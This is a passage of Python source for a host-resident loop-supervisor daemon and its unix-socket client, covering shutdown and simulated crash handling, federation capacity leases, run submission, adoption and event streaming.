            set_shed=self.admission.set_shed,
            pool_stats=pool_stats,
            set_pool_target=set_pool_target,
            live_placements=live_placements,
            journal=journal,
            emit=emit,
        )

    def _pressure_loop(self) -> None:
        """Tick the daemon disk-pressure ladder at its own cadence."""
        monitor = self.pressure
        while not self._stop.wait(monitor.check_interval_s):
            try:
                monitor.tick()
            except Exception:   # noqa: BLE001 -- pressure must never
                log.exception("pressure tick failed")   # kill the daemon

    def _capacity_loop(self) -> None:
        interval = max(0.05, self.cfg.settings.capacity.interval_s)
        while not self._stop.wait(interval):
            controller = self.capacity
            if controller is None:
                return
            try:
                controller.tick()
            except Exception:   # noqa: BLE001 -- a bad tick must never
                log.exception("capacity tick failed")  # kill the loop

    def _socket_answers(self) -> bool:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(1.0)
                s.connect(str(self.sock_path))
                protocol.write_msg(s, {"type": "ping"})
                return protocol.read_msg(s).get("type") == "pong"
        except (OSError, ClawkerError):
            return False

    def serve_forever(self) -> None:
        """Block until a stop/kill has COMPLETED (the ``__main__``
        entrypoint).  Waiting on the stop *flag* instead would let the
        daemon process exit while the `shutdown` RPC's stop thread is
        still mid-drain -- killing it before the runs journal their
        shutdown records and before the socket is unlinked."""
        self._stopped.wait()

    def stop(self, *, drain: bool = True) -> None:
        """Graceful shutdown: stop accepting, journal a durable
        ``shutdown`` for every live run and drain it (bounded by
        settings ``loopd.drain_grace_s``), close subscribers, unlink
        the socket.  Runs drained here resume later with
        ``clawker loop --resume`` exactly like a Ctrl-C'd CLI run."""
        if self._stop.is_set():
            return
        self._stop.set()
        self._close_listener(unlink=True)
        grace = self.cfg.settings.loopd.drain_grace_s
        with self._runs_lock:
            live = [r for r in self.runs.values() if not r.done.is_set()]
        for run in live:
            run.stop_requested.set()
            sched = run.sched
            if sched is None:
                continue        # drive thread honors stop_requested
            if drain:
                sched.request_shutdown("loopd stop")
            else:
                sched.stop()
        for run in live:
            if run.thread is not None:
                run.thread.join(grace)
        if self.health is not None:
            self.health.stop()
        if self.sentinel is not None:
            self.sentinel.stop()
        if self.shipper is not None:
            self.shipper.stop()
        if self._metrics_server is not None:
            self._metrics_server.stop()
        if self._capacity_journal is not None:
            self._capacity_journal.close()
        if self.flight is not None:
            self.flight.close()
        self.lanes.close_all()
        self._drop_conns()
        pidfile_path(self.cfg).unlink(missing_ok=True)
        log.info("loopd stopped")
        self._stopped.set()

    def kill(self) -> None:
        """Simulate daemon SIGKILL (chaos/crash tests): freeze every
        hosted scheduler's bookkeeping the way process death would --
        no shutdown records, no cleanup, no pool drains -- and drop
        every connection mid-frame.  The socket FILE stays behind,
        exactly as a real SIGKILL leaves it; discovery treats a
        connection-refused socket as "no daemon"."""
        self._aborted = True
        self._stop.set()
        with self._runs_lock:
            runs = list(self.runs.values())
        for run in runs:
            if run.sched is not None:
                run.sched.kill()
        self._close_listener(unlink=False)
        self._drop_conns()
        if self.health is not None:
            self.health.stop()
        if self.sentinel is not None:
            self.sentinel.kill_collector()
        if self.shipper is not None:
            self.shipper.kill()
        if self._metrics_server is not None:
            self._metrics_server.stop()
        if self.flight is not None:
            # the recorder FILE stays behind: a killed pod's submit
            # spans are exactly the surviving trace evidence the merge
            # renders around (docs/tracing.md#gaps)
            self.flight.close()
        self._stopped.set()

    def _drop_conns(self) -> None:
        """Hard-drop every client connection.  ``shutdown`` before
        ``close``: a plain close cannot interrupt a thread blocked in
        recv on the same socket (the blocked call pins the fd open), so
        without it neither the peer's EOF nor our own stream reader
        threads would ever wake."""
        with self._conns_lock:
            conns, self._conns = set(self._conns), set()
        for c in conns:
            try:
                c.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            try:
                c.close()
            except OSError:
                pass

    def _close_listener(self, *, unlink: bool) -> None:
        listener, self._listener = self._listener, None
        if listener is not None:
            # a blocked accept() pins the listener fd, so close alone
            # cannot stop the accept loop: wake it with a throwaway
            # connection first (the loop sees _stop/_listener and exits)
            try:
                with socket.socket(socket.AF_UNIX,
                                   socket.SOCK_STREAM) as s:
                    s.settimeout(0.5)
                    s.connect(str(self.sock_path))
            except OSError:
                pass
            try:
                listener.close()
            except OSError:
                pass
        if unlink:
            try:
                self.sock_path.unlink(missing_ok=True)
            except OSError:
                pass

    # ------------------------------------------------------------- serving

    def _accept_loop(self) -> None:
        while not self._stop.is_set():
            listener = self._listener
            if listener is None:
                return
            try:
                conn, _ = listener.accept()
            except OSError:
                return          # listener closed by stop()/kill()
            if self._stop.is_set() or self._listener is None:
                try:
                    conn.close()    # the wake-up connection itself
                except OSError:
                    pass
                return
            _CONNECTIONS.inc()
            with self._conns_lock:
                self._conns.add(conn)
            threading.Thread(target=self._handle_conn, args=(conn,),
                             daemon=True, name="loopd-conn").start()

    def _handle_conn(self, conn: socket.socket) -> None:
        ident = "anonymous"
        try:
            conn.settimeout(30.0)
            while not self._stop.is_set():
                try:
                    msg = protocol.read_msg(conn)
                except (protocol.ConnectionClosed, OSError):
                    return
                kind = msg.get("type", "")
                if kind == "hello":
                    ident = (f"uid{msg.get('uid', '?')}:"
                             f"pid{msg.get('pid', '?')}")
                    protocol.write_msg(conn, {
                        "type": "hello_ack", "pid": os.getpid(),
                        "version": __version__,
                        "project": self._project_name(),
                        "pod": self.pod_name(),
                        # server wall clock: the client side of this
                        # round-trip feeds its per-pod skew estimator
                        # (docs/tracing.md#clock-skew)
                        "ts": time.time(),
                    })
                elif kind == "ping":
                    with self._runs_lock:
                        n = sum(1 for r in self.runs.values()
                                if not r.done.is_set())
                    protocol.write_msg(conn, {
                        "type": "pong", "pid": os.getpid(), "runs": n,
                        "ts": time.time()})
                elif kind == "status":
                    protocol.write_msg(conn, self._status_doc())
                elif kind == "submit_run":
                    self._handle_submit(conn, msg, ident)
                    if msg.get("stream", True):
                        return  # streaming connections are single-purpose
                    # stream=False is a unary verb: the federation router
                    # reuses ONE control connection per pod for lease +
                    # submit traffic (docs/federation.md#router)
                elif kind == "attach":
                    self._handle_attach(conn, msg)
                    return
                elif kind == "stop_run":
                    self._handle_stop_run(conn, msg)
                elif kind == "lease_acquire":
                    protocol.write_msg(conn, self._lease_acquire(msg, ident))
                elif kind == "lease_renew":
                    protocol.write_msg(conn, self._lease_renew(msg))
                elif kind == "lease_release":
                    protocol.write_msg(conn, self._lease_release(msg))
                elif kind == "adopt_run":
                    self._handle_adopt(conn, msg, ident)
                    if msg.get("stream", False):
                        return  # streaming: single-purpose like submit
                elif kind == "shutdown":
                    protocol.write_msg(conn, {"type": "ok"})
                    threading.Thread(target=self.stop, daemon=True,
                                     name="loopd-shutdown").start()
                    return
                else:
                    protocol.write_msg(conn, {
                        "type": "error",
                        "error": f"unknown request {kind!r}"})
        except (protocol.ProtocolError, OSError) as e:
            log.info("loopd connection dropped: %s", e)
        except ClawkerError as e:
            try:
                protocol.write_msg(conn, {"type": "error", "error": str(e)})
            except (OSError, ClawkerError):
                pass
        finally:
            with self._conns_lock:
                self._conns.discard(conn)
            try:
                conn.close()
            except OSError:
                pass

    def _project_name(self) -> str:
        try:
            return self.cfg.project_name()
        except LookupError:
            return ""

    def pod_name(self) -> str:
        """This daemon's pod name in a federation: settings
        ``federation.name``, else derived from the socket's directory
        (every fake pod in tests binds a distinct dir).  Single-pod
        deployments see the default ``loopd``."""
        return (self.cfg.settings.federation.name
                or self.sock_path.parent.name)

    # -------------------------------------------------------- lease verbs
    # Federation capacity leases: a front-tier router acquires a bounded,
    # renewable block of launch credits per pod instead of a router->pod
    # admission round-trip per launch -- the lease amortizes admission
    # the way workerd amortized engine calls (docs/federation.md#leases).
    # The daemon's own admission buckets still meter the real inflight
    # launches, so a rogue router cannot widen any per-worker cap.

    def _lease_pool(self) -> int:
        """Total leasable launch credits for this pod."""
        stats = self.admission.stats()
        workers = [w for w in self.driver.workers() if w.engine is not None]
        return max(1, len(workers)) * int(
            stats["max_inflight_per_worker"]) * LEASE_POOL_FACTOR

    def _lease_sweep_locked(self) -> None:
        now = time.monotonic()
        for lid in [lid for lid, le in self._leases.items()
                    if le.expires_at <= now]:
            del self._leases[lid]
            self._lease_expired += 1

    def _lease_acquire(self, msg: dict, ident: str) -> dict:
        from ..util import ids

        ttl = max(0.2, float(msg.get("ttl_s")
                             or self.cfg.settings.federation.lease_ttl_s))
        want = max(1, int(msg.get("tokens")
                          or self.cfg.settings.federation.lease_tokens))
        tenant = str(msg.get("tenant") or ident)
        with self._leases_lock:
            self._lease_sweep_locked()
            outstanding = sum(le.remaining for le in self._leases.values())
            grant = min(want, max(0, self._lease_pool() - outstanding))
            if grant <= 0:
                # every credit is out on unexpired leases: the router
                # retries after the shortest-lived one can lapse
                retry = min((le.expires_at for le in self._leases.values()),
                            default=time.monotonic() + ttl)
                return {"type": "lease", "lease": "", "tokens": 0,
                        "ttl_s": ttl, "pod": self.pod_name(),
                        "retry_after_s": round(
                            max(0.05, retry - time.monotonic()), 3)}
            lease = _Lease(lease_id=ids.short_id(), tenant=tenant,
                           granted=grant, remaining=grant, ttl_s=ttl,
                           expires_at=time.monotonic() + ttl)
            self._leases[lease.lease_id] = lease
            self._lease_grants += 1
        log.info("lease %s granted to %s (%d credit(s), ttl %.1fs)",
                 lease.lease_id, tenant, grant, ttl)
        return {"type": "lease", "lease": lease.lease_id,
                "tokens": grant, "ttl_s": ttl, "pod": self.pod_name(),
                "ts": time.time()}

    def _lease_renew(self, msg: dict) -> dict:
        lid = str(msg.get("lease", ""))
        with self._leases_lock:
            self._lease_sweep_locked()
            lease = self._leases.get(lid)
            if lease is None:
                # expired or never granted: the router must RE-ACQUIRE
                # (a lapsed lease's credits are already back in the pool)
                return {"type": "error",
                        "error": f"lease {lid!r} unknown or expired"}
            lease.remaining = lease.granted     # fresh credit block
            lease.expires_at = time.monotonic() + lease.ttl_s
            lease.renewals += 1
            return {"type": "lease", "lease": lease.lease_id,
                    "tokens": lease.granted, "ttl_s": lease.ttl_s,
                    "pod": self.pod_name(), "ts": time.time()}

    def _lease_release(self, msg: dict) -> dict:
        lid = str(msg.get("lease", ""))
        with self._leases_lock:
            released = self._leases.pop(lid, None) is not None
        return {"type": "ok", "lease": lid, "released": released}

    def _lease_stats(self) -> dict:
        with self._leases_lock:
            self._lease_sweep_locked()
            return {
                "active": len(self._leases),
                "outstanding_tokens": sum(le.remaining
                                          for le in self._leases.values()),
                "pool": self._lease_pool(),
                "granted_total": self._lease_grants,
                "expired_total": self._lease_expired,
            }

    # ----------------------------------------------------------- run verbs

    def _handle_submit(self, conn, msg: dict, ident: str) -> None:
        t_submit = time.time()
        doc = msg.get("spec") or {}
        spec = spec_from_doc(doc)
        # per-tenant accounting keyed by CLIENT IDENTITY: a run that
        # never named a tenant bills under its submitter, so two
        # anonymous CLIs on one pod still split tokens fairly instead
        # of pooling into one "default" share
        if spec.tenant in ("", "default"):
            spec.tenant = ident
        # _create_run validates the spec (unknown policy/failover raise
        # here = an error ack) and registers the run; the scheduler's
        # own start() -- WAL + launch submission -- runs on the drive
        # thread AFTER the ack, so submit latency is the socket hop
        # plus registration, not a journal fsync + fan-out
        run = self._create_run(spec, ident, keep=bool(msg.get("keep")))
        self._trace_submit(run, msg, t_submit)
        self.seams.fire("loopd.post_submit")
        client_gone = False
        try:
            protocol.write_msg(conn, {
                "type": "submitted", "run": run.run_id,
                "tenant": run.tenant,
                # deterministic per (run, slot) -- the same names the
                # scheduler will place (and the journal will record)
                "agents": [f"{spec.agent_prefix}-{run.run_id[:6]}-{i}"
                           for i in range(spec.parallel)],
                # skew sample for the submitting router's estimator
                "ts": time.time()})
        except (OSError, ClawkerError):
            client_gone = True      # ownership already transferred: the
            #                         run executes regardless
        self.seams.fire("loopd.post_ack")
        self._start_run(run)
        if not client_gone and msg.get("stream", True):
            self._stream(conn, run)

    def _trace_submit(self, run: _DaemonRun, msg: dict,
                      t_submit: float) -> None:
        """Record this pod's ``loopd.submit`` hop span and hand the spec
        its downstream trace linkage: the run id IS the trace id from
        here on (it did not exist before _create_run), the submit span
        is the scheduler's upstream parent, and the router's cumulative
        clock offset rides along so the hosted scheduler -- and every
        workerd below it -- stamps auditable ``skew_s`` values."""
        spec = run.spec
        offset = float(msg.get("clock_offset_s") or 0.0)
        spec.clock_offset_s = offset
        if self.flight is None or self._aborted:
            return
        from ..telemetry.spans import SpanRecord
        from ..tracing.context import TraceContext
        from ..tracing.names import SPAN_LOOPD_SUBMIT
        from ..util import ids

        up = TraceContext.from_header(str(msg.get("tp", "")))
        span_id = ids.short_id(16)
        spec.trace_parent = TraceContext(run.run_id, span_id).to_header()
        attrs = {"pod": self.pod_name(), "tenant": run.tenant}
        if up is not None and up.span_id:
            attrs["ctx_parent"] = up.span_id
        if offset:
            attrs["skew_s"] = round(offset, 6)
        self.flight.append(SpanRecord(
            trace_id=run.run_id, span_id=span_id, parent_id="",
            name=SPAN_LOOPD_SUBMIT, agent="", worker=self.pod_name(),
            t_start=t_submit, t_end=time.time(),
            attrs=attrs).to_json())

    def _create_run(self, spec: LoopSpec, ident: str, *,
                    keep: bool) -> _DaemonRun:
        """Validate the spec and REGISTER the run (the ack gate).  The
        expensive part -- journal/flight-recorder opens, placement,
        launch submission -- happens on the drive thread, so submit
        latency is one socket hop plus this registration."""
        from ..loop.scheduler import FAILOVER_POLICIES
        from ..placement import get_policy
        from ..util import ids

        get_policy(spec.placement)          # raises on unknown policy
        if spec.failover not in FAILOVER_POLICIES:
            raise ClawkerError(
                f"loopd: unknown failover policy {spec.failover!r} "
                f"({'|'.join(FAILOVER_POLICIES)})")
        run = _DaemonRun(run_id=ids.short_id(), spec=spec,
                         tenant=spec.tenant, client=ident, keep=keep)
        with self._runs_lock:
            self.runs[run.run_id] = run
            # retention: evict the oldest DONE runs past the keep window
            # (dict order is insertion order = submit order); live runs
            # are never evicted.  The journal/flight record remain on
            # disk -- eviction only drops the in-memory view.
            done_ids = [rid for rid, r in self.runs.items()
                        if r.done.is_set()]
            for rid in done_ids[:max(0, len(done_ids) - DONE_RUNS_KEPT)]:
                del self.runs[rid]
            active = sum(1 for r in self.runs.values()
                         if not r.done.is_set())
        _RUNS.labels(spec.tenant).inc()
        _ACTIVE_RUNS.set(active)
        log.info("run %s submitted by %s (tenant %s, %d loop(s))",
                 run.run_id, ident, run.tenant, spec.parallel)
        return run

    def _handle_adopt(self, conn, msg: dict, ident: str) -> None:
        """Adopt a dead pod's journaled run onto THIS pod (cross-pod
        migration, docs/federation.md#migration): replay the run's WAL
        from the shared logs dir and resume it under this daemon's
        admission/lanes.  The dead pod's workers replay as engine-less
        stand-ins, their breakers pre-open, and the run's own failover
        policy re-places every orphaned loop onto this pod's workers --
        journal appends continue under the SAME run id (generation+1),
        so exit-accounted-once and duplicate-create audits hold across
        the pod boundary."""
        from ..loop.journal import RunJournal, journal_path, replay

        run_ref = str(msg.get("run", ""))
        jpath = journal_path(self.cfg.logs_dir, run_ref)
        if not jpath.exists():
            raise LoopdError(
                f"adopt_run: no journal for run {run_ref!r} under "
                f"{self.cfg.logs_dir} (federation pods must share "
                "journal storage; docs/federation.md#migration)")
        image = replay(RunJournal.read(jpath))
        if not image.run_id:
            raise LoopdError(
                f"adopt_run: {jpath}: no usable run header -- the "
                "journal is too damaged to adopt")
        spec = spec_from_doc(image.spec)
        if spec.tenant in ("", "default"):
            spec.tenant = ident
        run = _DaemonRun(run_id=image.run_id, spec=spec,
                         tenant=spec.tenant, client=ident,
                         keep=bool(msg.get("keep")),
                         resume_image=image,
                         adopt_orphan_grace_s=(
                             float(msg["orphan_grace_s"])
                             if msg.get("orphan_grace_s") is not None
                             else None))
        with self._runs_lock:
            existing = self.runs.get(run.run_id)
            if existing is not None and not existing.done.is_set():
                raise LoopdError(
                    f"adopt_run: run {run.run_id} is already hosted "
                    "here and live")
            self.runs[run.run_id] = run
            active = sum(1 for r in self.runs.values()
                         if not r.done.is_set())
        _RUNS.labels(spec.tenant).inc()
        _ACTIVE_RUNS.set(active)
        log.info("run %s adopted by %s (tenant %s, %d loop(s))",
                 run.run_id, ident, run.tenant, spec.parallel)
        client_gone = False
        try:
            protocol.write_msg(conn, {
                "type": "adopted", "run": run.run_id,
                "tenant": run.tenant, "pod": self.pod_name()})
        except (OSError, ClawkerError):
            client_gone = True      # adoption proceeds regardless
        self._start_run(run)
        if not client_gone and msg.get("stream", True):
            self._stream(conn, run)

    def _start_run(self, run: _DaemonRun) -> None:
        """Spawn the drive thread (idempotent)."""
        if run.thread is not None:
            return
        run.thread = threading.Thread(target=self._drive, args=(run,),
                                      daemon=True,
                                      name=f"loopd-run-{run.run_id[:6]}")
        run.thread.start()

    def _drive(self, run: _DaemonRun) -> None:
        """Build and drive one hosted run to completion on a daemon
        thread.  The scheduler is constructed with the SHARED admission
        controller and lane registry; placements are journaled
        write-ahead and launches submitted exactly as in-process."""
        if self._aborted:
            return

        def on_event(agent, event, detail=""):
            if event == TRACE_SPAN:
                return      # spans live in the flight recorder; the
                #             stream carries the lifecycle events
            run.publish({"type": "event", "run": run.run_id,
                         "agent": agent, "event": event, "detail": detail})

        # an executor set binds to ONE scheduler, so hosted runs get a
        # fresh set each when a factory was supplied (a plain set is
        # the single-run convenience: tests, one-shot daemons)
        execset = (self.executors() if callable(self.executors)
                   else self.executors)
        try:
            if run.resume_image is not None:
                # cross-pod adoption: resume the replayed journal image
                # under THIS daemon's shared admission (the run keeps
                # its id; reconcile() below adopts/relaunches/migrates)
                sched = LoopScheduler.resume(
                    self.cfg, self.driver, run.resume_image,
                    on_event=on_event,
                    orphan_grace_s=run.adopt_orphan_grace_s,
                    admission=self.admission,
                    seams=self.seams,
                    executors=execset)
            else:
                sched = LoopScheduler(self.cfg, self.driver, run.spec,
                                      on_event=on_event,
                                      run_id=run.run_id,
                                      admission=self.admission,
                                      lanes=self.lanes,
                                      seams=self.seams,
                                      executors=execset)
            run.sched = sched
            if self.sentinel is not None:
                # the hosted run's typed events feed the daemon
                # sentinel's behavioral features (observe-only: the tap
                # reads records, the sentinel holds no scheduler ref)
                sched.events.add_tap(self.sentinel.behavior)
            if self.shipper is not None:
                # typed events + spans into the monitor stack, tagged
                # with this run id (bounded intake: a down index can
                # never stall the bus -- docs/fleet-console.md)
                sched.attach_shipper(self.shipper)
            if self._aborted:
                sched.kill()        # kill() raced the construction
                return
            if run.stop_requested.is_set():
                sched.request_shutdown("loopd stop_run")
            if run.resume_image is not None:
                sched.reconcile()
            else:
                sched.start()
            loops = sched.run(poll_s=DRIVE_POLL_S)
            if not (self._aborted or sched._aborted):
                sched.cleanup(remove_containers=not run.keep)
            agents = [l.summary() for l in loops]
            ok = not any(l.status in ("failed", "orphaned") for l in loops)
        except Exception as e:      # noqa: BLE001 -- a run must never
            #                         take the daemon down with it
            log.exception("hosted run %s crashed", run.run_id)
            agents = run.sched.status() if run.sched is not None else []
            ok = False
            run.result["error"] = repr(e)
        if callable(self.executors) and execset is not None:
            try:
                execset.close_all()     # factory-made: this run owned it
            except Exception:  # noqa: BLE001 -- teardown must not mask
                pass           #                the run's own result
        if self._aborted:
            return      # killed daemons publish nothing
        run.result.update({"agents": agents, "ok": ok})
        run.done.set()
        with self._runs_lock:
            _ACTIVE_RUNS.set(sum(1 for r in self.runs.values()
                                 if not r.done.is_set()))
        run.publish({"type": "run_done", "run": run.run_id,
                     "agents": agents, "ok": ok,
                     # surfaced in the attach-stream footer: drops mean
                     # the live view was lossy, the journal/flight
                     # record were not
                     "events_dropped": run.dropped})
        run.publish(None)

    def _resolve_run(self, ref: str) -> _DaemonRun:
        with self._runs_lock:
            run = self.runs.get(ref)
            if run is not None:
                return run
            matches = [r for rid, r in self.runs.items()
                       if rid.startswith(ref)]
        if len(matches) == 1:
            return matches[0]
        if matches:
            names = ", ".join(r.run_id for r in matches)
            raise LoopdError(f"run {ref!r} is ambiguous: {names}")
        raise LoopdError(f"loopd hosts no run {ref!r}")

    def _handle_attach(self, conn, msg: dict) -> None:
        run = self._resolve_run(str(msg.get("run", "")))
        protocol.write_msg(conn, {
            "type": "attached", "run": run.run_id,
            "state": "done" if run.done.is_set() else "running",
            "agents": (run.sched.status()
                       if run.sched is not None else [])})
        self._stream(conn, run)

    def _handle_stop_run(self, conn, msg: dict) -> None:
        run = self._resolve_run(str(msg.get("run", "")))
        run.stop_requested.set()
        if run.sched is not None:
            run.sched.request_shutdown("loopd stop_run")
        protocol.write_msg(conn, {"type": "ok", "run": run.run_id})

    # ------------------------------------------------------------ streaming

    def _stream(self, conn, run: _DaemonRun) -> None:
        """Push the run's event frames until it completes or the client
        detaches.  Detaching (an explicit ``detach`` frame, or just
        closing the socket) unsubscribes and returns -- it must NEVER
        stop the run; that is the whole point of a daemon-owned run."""
        sub_id, q, snapshot, finished = run.subscribe()
        conn.settimeout(None)
        detached = threading.Event()

        def reader():
            # the client side of a stream only ever says "detach" (or
            # vanishes); either way the writer must wake promptly
            try:
                while True:
                    m = protocol.read_msg(conn)
                    if m.get("type") == "detach":
                        break
            except (protocol.ProtocolError, OSError):
                pass
            detached.set()
            try:
                q.put_nowait(None)
            except queue.Full:
                pass

        threading.Thread(target=reader, daemon=True,
                         name="loopd-stream-reader").start()
        try:
            for frame in snapshot:
                protocol.write_msg(conn, frame)
            if finished:
                protocol.write_msg(conn, {
                    "type": "run_done", "run": run.run_id,
                    "agents": run.result.get("agents", []),
                    "ok": run.result.get("ok", False),
                    "events_dropped": run.dropped})
                return
            while not detached.is_set():
                frame = q.get()
                if frame is None:
                    if detached.is_set():
                        break
                    return      # run_done already pushed; stream over
                protocol.write_msg(conn, frame)
        except (protocol.ProtocolError, OSError):
            pass                # client vanished mid-write: same as detach
        finally:
            run.unsubscribe(sub_id)

    # -------------------------------------------------------------- status

    def _health_stats(self) -> list[dict]:
        """Per-worker health rows: the daemon's own monitor merged with
        every LIVE hosted run's monitor, keeping the most pessimistic
        breaker row per worker.  Placements consult the RUN monitors
        (each scheduler builds its own), so a fleet view fed only by
        the daemon's idle monitor could read all-closed while a hosted
        run is actively failing over -- the merge renders the breakers
        placements actually use."""
        monitors = [self.health] if self.health is not None else []
        with self._runs_lock:
            for r in self.runs.values():
                sched = r.sched
                if (not r.done.is_set() and sched is not None
                        and sched.health is not None):
                    monitors.append(sched.health)
        best: dict[str, dict] = {}
        for mon in monitors:
            try:
                rows = mon.stats()
            except Exception:       # noqa: BLE001 -- a dying run's
                continue            # monitor must not break status
            for row in rows:
                cur = best.get(row["worker"])
                if (cur is None or row["breaker_state_gauge"]
                        > cur["breaker_state_gauge"]):
                    best[row["worker"]] = row
        return [best[w] for w in sorted(best)]

    def _workerd_rows(self) -> dict:
        """Per-worker workerd liveness for the status RPC: `fleet
        health` renders it so a worker silently degraded to the WAN
        launch path is visible instead of just slow (docs/workerd.md)."""
        from ..workerd import liveness

        try:
            return liveness(self.cfg, self.driver)
        except Exception:       # noqa: BLE001 -- a probe failure must
            return {}           # never break the status RPC

    def _storage_stats(self) -> dict:
        """Daemon-level storage health: the disk-pressure ladder plus
        the daemon's own capacity WAL (per-run journal health rides
        each run's ``status_doc``)."""
        doc: dict = {"pressure": (self.pressure.summary()
                                  if self.pressure is not None else None)}
        j = self._capacity_journal
        if j is not None:
            doc["capacity_wal"] = {
                "healthy": j.healthy, "dropped": j.dropped,
                "recoveries": j.recoveries, "poisoned": j.poisoned,
            }
        return doc

    def _status_doc(self) -> dict:
        with self._runs_lock:
            runs = [r.status_doc() for r in self.runs.values()]
        pools = {}
        with self._runs_lock:
            for r in self.runs.values():
                wp = (r.sched.warmpool if r.sched is not None else None)
                if wp is not None:
                    pools[r.run_id] = wp.stats()
        return {
            "type": "status",
            "pid": os.getpid(),
            "version": __version__,
            "project": self._project_name(),
            "pod": self.pod_name(),
            "socket": str(self.sock_path),
            "uptime_s": round(time.monotonic() - self._started_at, 1),
            "runs": runs,
            "admission": self.admission.stats(),
            "leases": self._lease_stats(),
            "health": self._health_stats(),
            "workerd": self._workerd_rows(),
            "warm_pools": pools,
            "capacity": ({"enabled": True, **self.capacity.state()}
                         if self.capacity is not None
                         else {"enabled": False}),
            "storage": self._storage_stats(),
            "sentinel": (self.sentinel.status_doc()
                         if self.sentinel is not None
                         else {"enabled": False}),
            "shipper": ({"enabled": True, **self.shipper.stats()}
                        if self.shipper is not None
                        else {"enabled": False}),
            "events_dropped_total": sum(r.get("events_dropped", 0)
                                        for r in runs),
            "settings": {
                "max_inflight_per_worker":
                    self.cfg.settings.loop.placement.max_inflight_per_worker,
                "max_pending_per_worker":
                    self.cfg.settings.loop.placement.max_pending_per_worker,
                "metrics_port": self._metrics_port,
            },
        }
