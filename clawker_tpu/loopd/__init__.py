"""loopd: the host-resident loop-supervisor daemon (docs/loopd.md).

PR-6's placement & admission subsystem enforces per-worker inflight
caps and tenant fairness only *inside one CLI process*: two concurrent
``clawker loop`` invocations on the same pod each bring their own
:class:`~clawker_tpu.placement.AdmissionController` and can jointly
blow the per-worker cap.  loopd moves that state into one resident
process per host -- ONE admission controller, ONE per-worker lane
registry, daemon-owned health breakers -- serving the run lifecycle
(submit / detach / attach / status / event-stream) over a
length-prefixed JSON-frame protocol (the agentd framing) on a unix
socket inside a 0700 runtime dir.  The CLI discovers the socket and
becomes a thin control client; no daemon means everything degrades
transparently to the in-process scheduler.

Layout::

    <state>/loopd/            runtime dir, chmod 0700 (fs perms ARE the
        loopd.sock            auth -- the bksession/nsd socket pattern)
        loopd.pid
    <state>/logs/loopd.log    daemon stdout/stderr
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

from ..errors import ClawkerError

LOOPD_DIR = "loopd"                 # under Config.state_dir
SOCKET_NAME = "loopd.sock"
PIDFILE_NAME = "loopd.pid"
LOGFILE_NAME = "loopd.log"          # under Config.logs_dir


class LoopdError(ClawkerError):
    pass


def runtime_dir(cfg) -> Path:
    """The daemon's 0700 runtime dir (socket + pidfile)."""
    return Path(cfg.state_dir) / LOOPD_DIR


def socket_path(cfg) -> Path:
    """The daemon control socket: settings ``loopd.socket`` override or
    the canonical runtime-dir location."""
    override = cfg.settings.loopd.socket
    if override:
        return Path(override)
    return runtime_dir(cfg) / SOCKET_NAME


def pidfile_path(cfg) -> Path:
    return runtime_dir(cfg) / PIDFILE_NAME


def logfile_path(cfg) -> Path:
    return Path(cfg.logs_dir) / LOGFILE_NAME


def spawn_daemon(cfg, *, cwd: Path | None = None) -> int:
    """Fork ``python -m clawker_tpu.loopd`` detached; wait until its
    socket answers a ping or the settings deadline passes.  Returns the
    daemon pid.  The child loads its own config from ``cwd`` -- the
    daemon is PROJECT-scoped (container names/labels key on the
    project), so it must start from the project it will serve."""
    from .client import LoopdClient

    sock = socket_path(cfg)
    log_path = logfile_path(cfg)
    log_path.parent.mkdir(parents=True, exist_ok=True)
    runtime_dir(cfg).mkdir(parents=True, exist_ok=True)
    os.chmod(runtime_dir(cfg), 0o700)
    with open(log_path, "ab") as logf:
        proc = subprocess.Popen(
            [sys.executable, "-m", "clawker_tpu.loopd"],
            stdout=logf, stderr=subprocess.STDOUT,
            stdin=subprocess.DEVNULL,
            start_new_session=True,         # survive the CLI process
            cwd=str(cwd) if cwd is not None else None,
            env=os.environ.copy(),
        )
    deadline = time.monotonic() + cfg.settings.loopd.start_deadline_s
    while time.monotonic() < deadline:
        try:
            with LoopdClient(sock, timeout=1.0) as client:
                if client.ping():
                    return proc.pid
        except ClawkerError:
            pass
        except OSError:
            pass
        if proc.poll() is not None:
            raise LoopdError(
                f"loopd exited during start (rc={proc.returncode}); "
                f"see {log_path}")
        time.sleep(0.1)
    # half-alive spawn: tear it down so the next attempt starts clean
    try:
        proc.terminate()
        proc.wait(timeout=3)
    except Exception:       # noqa: BLE001 -- best effort by design
        pass
    raise LoopdError(
        f"loopd did not answer on {sock} within "
        f"{cfg.settings.loopd.start_deadline_s:.0f}s; see {log_path}")
