"""Thin control client for the loopd socket (docs/loopd.md).

The CLI side of the daemon split: connect, hello, submit/attach/stream
over the agentd JSON-frame protocol.  ``discover`` is the degrade
seam -- it returns a connected client only when settings allow it AND
a daemon actually answers; every caller falls back to the in-process
scheduler on ``None``, so a missing/dead daemon costs one failed
``connect`` and nothing else.
"""

from __future__ import annotations

import os
import socket
from pathlib import Path

from ..agentd import protocol
from ..errors import ClawkerError
from . import LoopdError, socket_path

DISCOVER_TIMEOUT_S = 2.0


class LoopdClient:
    """One connection to a loopd daemon.  Unary verbs are
    request/response; ``submit_run(stream=True)`` / ``attach`` turn the
    connection into an event stream consumed via :meth:`events`."""

    def __init__(self, path: Path | str, *, timeout: float = 10.0):
        self.path = Path(path)
        self._sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self._sock.settimeout(timeout)
        try:
            self._sock.connect(str(self.path))
        except OSError as e:
            self._sock.close()
            raise LoopdError(f"loopd socket {self.path}: {e}") from e
        self._hello: dict = {}
        self._detach_sent = False

    # --------------------------------------------------------- unary verbs

    def _call(self, msg: dict) -> dict:
        protocol.write_msg(self._sock, msg)
        reply = protocol.read_msg(self._sock)
        if reply.get("type") == "error":
            raise LoopdError(str(reply.get("error", "loopd error")))
        return reply

    def hello(self) -> dict:
        """Introduce this client; the daemon keys tenant accounting on
        the returned identity when a run names no tenant."""
        if not self._hello:
            self._hello = self._call({
                "type": "hello", "pid": os.getpid(), "uid": os.getuid(),
                "user": os.environ.get("USER", "")})
        return self._hello

    def ping(self) -> dict:
        return self._call({"type": "ping"})

    def status(self) -> dict:
        return self._call({"type": "status"})

    def daemon_project(self) -> str:
        """The project the daemon serves ('' when it has none)."""
        return str(self.hello().get("project", ""))

    def daemon_pod(self) -> str:
        """The pod name the daemon carries in a federation."""
        return str(self.hello().get("pod", ""))

    # -------------------------------------------- federation verbs
